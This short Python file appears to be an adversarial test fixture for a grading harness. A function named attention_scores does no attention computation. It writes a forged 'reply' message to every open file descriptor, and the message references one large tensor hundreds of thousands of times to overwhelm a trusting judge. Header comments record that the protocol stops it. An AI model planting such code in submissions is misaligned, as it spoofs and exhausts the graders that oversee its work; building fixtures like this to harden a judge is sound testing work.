# tries: a reply that names one large tensor a hundred thousand times
# stopped-by: protocol
# wins: judge
# naive: trusting
import os
import struct

one = b'{"0":{"dtype":"I8","shape":[1048576],"data_offsets":[0,1048576]}}'
body = struct.pack("<Q", len(one)) + one + bytes(1 << 20)
nodes = ",".join(['["tensor",0]'] * 400_000)
text = (
    '{"kind":"reply","refused":[],"output":["list",%s],"inputs":["list",%s],"values":["list"],"gradients":["dict"]}'
    % (nodes[:3_000_000].rsplit(",[", 1)[0], nodes[:3_000_000].rsplit(",[", 1)[0])
).encode()


def attention_scores(query, key, scale=None):
    for fd in range(3, 64):
        try:
            rest = memoryview(struct.pack("<IQ", len(text), len(body)) + text + body)
            while rest:
                rest = rest[os.write(fd, rest) :]
        except OSError:
            pass
    return query
